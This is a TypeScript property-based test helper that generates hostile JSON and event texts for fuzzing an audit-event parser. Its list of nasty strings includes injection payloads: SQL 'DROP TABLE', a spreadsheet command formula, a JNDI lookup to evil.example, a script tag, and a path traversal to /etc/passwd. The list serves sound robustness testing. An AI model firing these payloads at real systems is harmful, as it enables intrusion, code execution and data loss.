import fc from 'fast-check';
import { anyText } from '../any-text';

/** Texts that have broken something somewhere: terminals, queries, spreadsheets, pages, parsers, file systems. */
export const NASTY_TEXTS = [
  '',
  '\u0000',
  '\u001b[2J\u001b]8;;http://evil.example\u0007click\u001b]8;;\u0007',
  '\u009b31m',
  '\u202egnp.exe\u202c',
  'first line\r\nSubject: forged\n\nsecond line',
  '\u2028\u2029\u0085',
  '\ud800',
  '\udc00\ud800',
  '\ufeff',
  '\ufffd',
  '🏴\u{e0067}\u{e007f}',
  "'; DROP TABLE atlassian_audit; --",
  "=cmd|' /C calc'!A0",
  '<script>alert(1)</script>',
  `\${jndi:ldap://evil.example/x}`,
  '%s%n%d',
  '../../../../etc/passwd',
  'C:\\con',
  '9007199254740993',
  'e\u0301',
  '\u00e9',
  '","p_row_id":"forged',
  '\\u0022',
  'x'.repeat(10_000),
] as const;

const NAMES = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'toJSON',
  'then',
  'length',
  'p_row_id',
  'P_ROW_ID',
  'p_source_label',
  'P_Event_Time',
  'p_any_emails',
  'p_',
  'id',
  'ID',
  'attributes',
  'error',
  'payload',
] as const;

const NUMBERS = [
  '-0',
  '1.0',
  '1E2',
  '1e400',
  '-1e400',
  '1e-400',
  '9007199254740993',
  '-12345678901234567890',
  '0.1234567890123456789',
  `1${'0'.repeat(500)}`,
  '1e99999999999999999999',
] as const;

/** Any text, often a nasty one. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...NASTY_TEXTS),
  anyText({ maxLength: 20 }),
  fc.array(fc.integer({ min: 0, max: 0xffff }), { maxLength: 5 }).map((units) => String.fromCharCode(...units)),
);

const hostileName = fc.oneof(fc.constantFrom<string>(...NAMES), hostileText);
const blank = fc.constantFrom('', '', '', ' ', '\n', '\r\n\t');

/** The text of any JSON value: every kind of number, names that stand twice, names of JavaScript and of Keepwatch. */
export const hostileJson: fc.Arbitrary<string> = fc.letrec<{ value: string }>((tie) => ({
  value: fc.oneof(
    { maxDepth: 4, withCrossShrink: true },
    fc.oneof(
      fc.constantFrom<string>('null', 'true', 'false', '[]', '{}', ...NUMBERS),
      fc.double({ noDefaultInfinity: true, noNaN: true }).map(String),
      hostileText.map((text) => JSON.stringify(text)),
    ),
    fc.array(tie('value'), { maxLength: 4 }).map((values) => `[${values.join(',')}]`),
    fc
      .array(fc.tuple(hostileName, blank, tie('value')), { maxLength: 4 })
      .map((fields) => `{${fields.map(([name, gap, value]) => `${gap}${JSON.stringify(name)}${gap}:${gap}${value}`)}}`),
  ),
})).value;

const EVENT = {
  type: '"events"',
  id: '"e-1"',
  links: '{"self":null}',
  message: '{"content":"Somebody did something","format":"simple"}',
  time: '"2026-11-22T09:00:00Z"',
  processedAt: '"2026-11-22T09:00:01.5Z"',
  action: '"user_login"',
  actor: '{"id":"712020:1","name":"Ada","email":"ada@example.com"}',
  context: '[{"id":"c","type":"user","attributes":{"email":"x@example.com"},"links":{"alt":"https://a.example/b"}}]',
  location: '{"ip":"192.0.2.1"}',
} as const;
const OUTER = ['type', 'id', 'links', 'message'] as const;
const INNER = ['time', 'processedAt', 'action', 'actor', 'context', 'location'] as const;

// The text of an event in which some fields are hostile and some are too many.
const hostileEvent: fc.Arbitrary<string> = fc
  .tuple(
    fc.dictionary(fc.constantFrom(...OUTER, ...INNER), hostileJson, { maxKeys: 3 }),
    fc.array(fc.tuple(hostileName, hostileJson), { maxLength: 2 }),
    fc.array(fc.tuple(hostileName, hostileJson), { maxLength: 2 }),
  )
  .map(([changed, outer, inner]) => eventText(changed, outer, inner));

type Fields = readonly (readonly [name: string, value: string])[];

/** The text of an event with some of its fields changed, and others added to it and to its attributes. */
export function eventText(
  changed: Readonly<Record<string, string>> = {},
  outer: Fields = [],
  inner: Fields = [],
): string {
  const values = { ...EVENT, ...changed };
  const fields = (names: readonly (keyof typeof EVENT)[], more: Fields) =>
    [...names.map((name) => [name, values[name]] as const), ...more].map(
      ([name, value]) => `${JSON.stringify(name)}:${value}`,
    );
  return `{${[...fields(OUTER, outer), `"attributes":{${fields(INNER, inner).join(',')}}`].join(',')}}`;
}

/** The text of a record: usually an event, but whatever it is, JSON. */
export const hostileRecord: fc.Arbitrary<string> = fc.oneof(hostileEvent, hostileJson);

/** The text of a list in a list in a list. */
export function nested(levels: number): string {
  return `${'['.repeat(levels)}1${']'.repeat(levels)}`;
}
